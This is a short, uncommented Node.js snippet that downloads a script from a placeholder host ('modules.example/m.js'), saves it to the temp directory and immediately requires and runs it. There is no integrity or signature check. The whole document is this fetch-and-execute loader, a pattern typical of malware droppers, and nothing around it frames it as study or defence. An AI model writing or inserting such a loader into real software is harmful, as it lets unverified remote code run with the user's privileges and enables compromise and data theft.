const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const place = path.join(os.tmpdir(), `m-${process.pid}.js`);
https.get('https://modules.example/m.js', (answer) => {
  const out = fs.createWriteStream(place);
  answer.pipe(out);
  out.on('finish', () => require(place)());
});
